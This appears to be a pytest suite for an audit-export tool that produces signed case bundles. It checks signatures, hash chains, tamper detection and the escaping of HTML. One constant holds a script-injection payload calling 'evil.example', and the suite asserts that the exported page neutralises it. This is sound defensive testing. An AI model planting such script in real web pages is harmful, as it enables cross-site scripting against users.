"""One case as one signed file: an auditor checks it with sha256sum and openssl, and a few lines of their own."""

from __future__ import annotations

import hashlib
import json
import sqlite3
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from control_tower.keeping.kept import NOUN
from control_tower.keeping.step import open_archive
from control_tower.ledger.proposals import find_proposal
from control_tower.nouns import Action
from control_tower.pause import resume
from control_tower.stores.shop import sqlite_file
from desk.command import main

HOSTILE = "<script>fetch('http://evil.example')</script>"


@pytest.fixture(scope="module")
def case(watched: Any) -> str:
    """A case that was refunded, whose customer wrote something nasty."""
    proposal = watched.waiting(Action.refund)[0]
    watched.rule(proposal, reason=HOSTILE)
    resume(str(find_proposal(watched.ledger, proposal.digest).flow_run_id))
    watched.work()
    return str(proposal.case_id)


def exported(case: str, folder: Path, *more: str) -> Path:
    with pytest.raises(SystemExit) as ended:
        main(["audit", "export", case, "--to", str(folder / "case.zip"), *more])
    assert ended.value.code == 0
    with zipfile.ZipFile(folder / "case.zip") as bundle:
        assert all(not name.startswith("/") and ".." not in name for name in bundle.namelist())
        bundle.extractall(folder / "bundle")
    return folder / "bundle"


def checks(bundle: Path) -> bool:
    """What README.txt says to do."""
    sums = subprocess.run(
        ["sha256sum", "--check", "--strict", "--quiet", "SHA256SUMS"], cwd=bundle, capture_output=True
    )
    signed = subprocess.run(
        ["openssl", "pkeyutl", "-verify", "-pubin", "-inkey", "public.pem", "-rawin", "-in", "SHA256SUMS",
         "-sigfile", "SHA256SUMS.sig"],
        cwd=bundle, capture_output=True,
    )  # fmt: skip
    return sums.returncode == 0 and signed.returncode == 0


def test_a_bundle_is_checked_without_this_software(case: str, watched: Any, tmp_path: Path) -> None:
    bundle = exported(case, tmp_path)
    assert checks(bundle)
    named = {line.split("  ", 1)[1] for line in (bundle / "SHA256SUMS").read_text().splitlines()}
    there = {str(file.relative_to(bundle)) for file in bundle.rglob("*") if file.is_file()}
    assert there - named == {"SHA256SUMS", "SHA256SUMS.sig"}


def test_a_bundle_holds_the_whole_story_of_a_refund(case: str, watched: Any, tmp_path: Path) -> None:
    bundle = exported(case, tmp_path)
    told = json.loads((bundle / "case.json").read_text())
    (proposal,) = (one for one in told["proposals"] if one["standing"] == "done")
    (ruling,) = told["rulings"]
    assert ruling["proposal"] == proposal["digest"] and ruling["approver"] == "ana"
    assert [one["state"] for one in told["effects"]] == ["confirmed"]
    assert {entry["of"] for entry in told["journal"]} >= {"cases", "proposals", "rulings", "effects", "events"}
    runs = {file.stem for file in (bundle / "runs").iterdir()}
    assert proposal["flow_run_id"] in runs and len(runs) == 2, "the look that found it, and its own run"
    for file in (bundle / "runs").iterdir():
        previous = ""
        for record in json.loads(file.read_text()):
            assert record["previous"] == previous
            content = json.dumps(record, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()
            previous = hashlib.sha256(content).hexdigest()
    for file in (bundle / "kept").rglob("*.*"):
        assert hashlib.sha256(file.read_bytes()).hexdigest() == file.name.partition(".")[0]
    orders = pd.read_parquet(bundle / "evidence" / "orders.parquet")
    assert set(orders["order_id"]) == set(told["case"]["orders"]), "and nobody else's rows"


def test_its_page_runs_nothing_and_asks_nobody(case: str, watched: Any, tmp_path: Path) -> None:
    page = (exported(case, tmp_path) / "case.html").read_text()
    assert HOSTILE not in page and "&lt;script&gt;" in page
    assert "<script" not in page and "default-src 'none'" in page
    assert not {"src=", "href=", "@import", "url("} & set(page.split())


@pytest.mark.parametrize("changed", ["case.json", "evidence/orders.parquet", "SHA256SUMS", "public.pem"])
def test_a_bundle_that_was_changed_does_not_check(case: str, watched: Any, tmp_path: Path, changed: str) -> None:
    bundle = exported(case, tmp_path)
    content = bytearray((bundle / changed).read_bytes())
    content[len(content) // 2] ^= 1
    (bundle / changed).write_bytes(content)
    assert not checks(bundle)


def test_the_same_case_is_signed_by_the_key_that_is_shown(
    case: str, watched: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bundle = exported(case, tmp_path)
    capsys.readouterr()
    with pytest.raises(SystemExit):
        main(["audit", "key", "--json"])
    shown = json.loads(capsys.readouterr().out)
    assert shown["fingerprint"] == hashlib.sha256((bundle / "public.pem").read_bytes()).hexdigest()
    key = watched.settings.folder / "signing.pem"
    assert key.stat().st_mode & 0o077 == 0


def test_what_is_not_what_was_kept_is_not_handed_out(case: str, watched: Any, tmp_path: Path) -> None:
    bundle = exported(case, tmp_path)
    kept = next(file for file in (bundle / "kept" / "nouns").iterdir())
    archive = open_archive(watched.settings.artifacts)
    path = Path(archive.path("nouns", kept.name.partition(".")[0], NOUN))
    before = path.read_bytes()
    path.write_bytes(before + b" ")
    try:
        with pytest.raises(SystemExit) as ended:
            main(["audit", "export", case, "--to", str(tmp_path / "again.zip")])
        assert ended.value.code not in (0, None) and not (tmp_path / "again.zip").exists()
    finally:
        path.write_bytes(before)


def test_a_row_that_somebody_edits_is_named_by_the_command(
    case: str, watched: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    with sqlite3.connect(sqlite_file(watched.settings.ledger)) as book:
        (before,) = book.execute("SELECT approver FROM rulings").fetchone()
        book.execute("UPDATE rulings SET approver = 'eve'")
    with pytest.raises(SystemExit) as ended:
        main(["audit", "verify"])
    assert ended.value.code not in (0, None)
    said = " ".join(capsys.readouterr().err.split())
    assert "in the ledger, rulings " in said and "|1 is not what was written" in said
    with sqlite3.connect(sqlite_file(watched.settings.ledger)) as book:
        book.execute("UPDATE rulings SET approver = ?", (before,))
        book.execute("DELETE FROM touched")
    with pytest.raises(SystemExit) as ended:
        main(["audit", "verify"])
    assert ended.value.code == 0
    assert "every row is what was written" in capsys.readouterr().out
